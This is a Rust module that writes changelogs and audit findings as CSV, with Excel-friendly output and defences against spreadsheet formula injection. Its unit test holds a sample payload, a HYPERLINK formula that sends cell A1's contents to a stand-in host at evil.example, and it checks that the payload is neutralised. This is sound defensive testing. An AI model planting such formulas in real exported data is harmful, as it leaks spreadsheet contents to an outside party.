//! CSV for people who work in spreadsheets: one row per change of a
//! changelog, one row per finding of an audit. Headers and descriptions are
//! in the reader's language; codes (`kind`, `code`, snapshot and
//! arrangement ids) stay as in JSON so rows can be filtered reliably.
//!
//! Two dialects: [`CsvDialect::Plain`] is RFC 4180 (comma, no byte-order
//! mark) for programs; [`CsvDialect::Excel`] is what a spreadsheet program
//! opens correctly by double-click: a UTF-8 byte-order mark (without it
//! Excel reads `æøå` as Windows-1252) and the list separator of the reader's
//! locale (`;` in Norwegian, where `,` is the decimal comma).
//!
//! Both dialects neutralise formula injection as OWASP's CSV-injection
//! guidance says: a cell that begins with `=`, `+`, `-`, `@`, a tab or a
//! carriage return gets a leading `'`, so a spreadsheet shows it as text
//! instead of running it (`=HYPERLINK(...)` in a name or comment). Plain CSV
//! does it too, because a `.csv` file is as likely to be double-clicked as
//! read by a program; a program that needs the exact values reads
//! `--format json`. Control characters are written visibly
//! ([`crate::controls`]).

use std::io::{self, Write};

use super::labels::{kind_label, severity_label, why_text};
use crate::audit::Audit;
use crate::diff::{Changelog, Side, value_text};
use crate::i18n::{Catalog, Lang, Msg};

use super::sentences::describe;

/// How the CSV is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CsvDialect {
    /// RFC 4180: `,` between fields, no byte-order mark.
    #[default]
    Plain,
    /// For spreadsheet programs: a UTF-8 byte-order mark, and `;` between
    /// fields in Norwegian (`,` in English), matching Excel's list separator.
    Excel,
}

/// The UTF-8 byte-order mark.
const BOM: &[u8] = b"\xEF\xBB\xBF";

/// A CSV writer of `dialect` for text in `cat`'s language, the byte-order
/// mark already written when the dialect wants one.
fn writer<'a>(
    dialect: CsvDialect,
    cat: &Catalog,
    out: &'a mut dyn Write,
) -> io::Result<csv::Writer<&'a mut dyn Write>> {
    let delimiter = match (dialect, cat.lang()) {
        (CsvDialect::Excel, Lang::Nb) => b';',
        _ => b',',
    };
    if dialect == CsvDialect::Excel {
        out.write_all(BOM)?;
    }
    Ok(csv::WriterBuilder::new()
        .delimiter(delimiter)
        .from_writer(out))
}

/// A cell as it may be written: control characters escaped, and a leading
/// `'` before a character that would make a spreadsheet read a formula.
pub fn safe_cell(s: &str) -> String {
    let s = crate::controls::escape_controls(s);
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.into_owned()
    }
}

/// Write one record of safe cells.
fn record<I, S>(w: &mut csv::Writer<&mut dyn Write>, cells: I) -> io::Result<()>
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    w.write_record(cells.into_iter().map(|c| safe_cell(c.as_ref())))
        .map_err(csv_err)
}

fn csv_err(e: csv::Error) -> io::Error {
    match e.into_kind() {
        csv::ErrorKind::Io(e) => e,
        other => io::Error::other(format!("{other:?}")),
    }
}

/// A header and rows of text, in `dialect`, every cell made safe
/// (`record`).
pub fn write_rows(
    header: &[String],
    rows: &[Vec<String>],
    cat: &Catalog,
    dialect: CsvDialect,
    out: &mut dyn Write,
) -> io::Result<()> {
    let mut w = writer(dialect, cat, out)?;
    record(&mut w, header)?;
    for r in rows {
        record(&mut w, r)?;
    }
    w.flush()
}

/// A citation cell: `source:line,line`.
fn citation(source: &str, lines: &[u32]) -> String {
    let lines: Vec<String> = lines.iter().map(u32::to_string).collect();
    format!("{source}:{}", lines.join(","))
}

fn side_text(s: &Option<Side>) -> String {
    s.as_ref()
        .map(|s| citation(&s.source, &s.lines))
        .unwrap_or_default()
}

/// The header and rows of a changelog as CSV writes them: one row per
/// change, in the changelog's order (cosmetic changes included, flagged in
/// their own column). The workbook writer uses the same rows.
pub fn changelog_table(log: &Changelog, cat: &Catalog) -> (Vec<String>, Vec<Vec<String>>) {
    let header = [
        Msg::CsvFrom,
        Msg::CsvTo,
        Msg::CsvKind,
        Msg::CsvKindLabel,
        Msg::CsvArrangement,
        Msg::CsvName,
        Msg::CsvCategory,
        Msg::CsvMunicipality,
        Msg::CsvBefore,
        Msg::CsvAfter,
        Msg::CsvCosmetic,
        Msg::CsvUncertain,
        Msg::CsvDescription,
        Msg::CsvEvidenceBefore,
        Msg::CsvEvidenceAfter,
    ];
    let yes_no = |b: bool| cat.text(if b { Msg::CsvYes } else { Msg::CsvNo });
    let rows = log
        .changes
        .iter()
        .map(|c| {
            vec![
                c.from.to_string(),
                c.to.to_string(),
                c.kind.as_str().to_owned(),
                kind_label(c.kind, cat),
                c.arrangement.to_string(),
                c.name.clone(),
                c.category.clone().unwrap_or_default(),
                c.municipality
                    .as_ref()
                    .map(|m| m.to_string())
                    .unwrap_or_default(),
                c.before.as_ref().map(value_text).unwrap_or_default(),
                c.after.as_ref().map(value_text).unwrap_or_default(),
                yes_no(c.cosmetic),
                yes_no(c.uncertain),
                describe(c, cat),
                side_text(&c.evidence.before),
                side_text(&c.evidence.after),
            ]
        })
        .collect();
    (header.iter().map(|m| cat.text(*m)).collect(), rows)
}

/// One row per change, in the changelog's order (cosmetic changes
/// included, flagged in their own column).
pub fn write_changelog_csv(
    log: &Changelog,
    cat: &Catalog,
    dialect: CsvDialect,
    out: &mut dyn Write,
) -> io::Result<()> {
    let (header, rows) = changelog_table(log, cat);
    write_rows(&header, &rows, cat, dialect, out)
}

/// One row per finding, in the audit's order.
pub fn write_audit_csv(
    audit: &Audit,
    cat: &Catalog,
    dialect: CsvDialect,
    out: &mut dyn Write,
) -> io::Result<()> {
    let mut w = writer(dialect, cat, out)?;
    let header = [
        Msg::CsvFindingId,
        Msg::CsvCode,
        Msg::CsvSeverity,
        Msg::CsvState,
        Msg::CsvSnapshot,
        Msg::CsvArrangement,
        Msg::CsvMessage,
        Msg::CsvWhy,
        Msg::CsvEvidence,
        Msg::CsvResolvedBy,
    ];
    record(&mut w, header.iter().map(|m| cat.text(*m)))?;
    for f in &audit.findings {
        let evidence: Vec<String> = f
            .evidence
            .iter()
            .map(|e| citation(&e.source, &e.lines))
            .collect();
        let state = cat.text(if f.is_open() {
            Msg::RegisterStatusOpen
        } else {
            Msg::AuditResolved
        });
        let resolved_by = f
            .resolved_by
            .as_ref()
            .map(|e| citation(&e.source, &e.lines))
            .unwrap_or_default();
        record(
            &mut w,
            [
                f.id.to_string(),
                f.code.as_str().to_owned(),
                severity_label(f.severity, cat),
                state,
                f.snapshot.to_string(),
                f.arrangement
                    .as_ref()
                    .map(|a| a.to_string())
                    .unwrap_or_default(),
                f.text.render(cat),
                why_text(f.code, cat),
                evidence.join("; "),
                resolved_by,
            ],
        )?;
    }
    w.flush()
}

#[cfg(test)]
mod tests {
    use super::safe_cell;

    #[test]
    fn formulas_are_neutralised() {
        assert_eq!(
            safe_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
        );
        for s in ["+1", "-1", "@SUM(A1)", "\tx"] {
            assert_eq!(safe_cell(s), format!("'{s}"));
        }
        assert_eq!(safe_cell("\rx"), "\\u{d}x");
        assert_eq!(safe_cell("Øyer = x"), "Øyer = x");
        assert_eq!(safe_cell("a\u{1b}]0;t\u{7}"), "a\\u{1b}]0;t\\u{7}");
    }
}
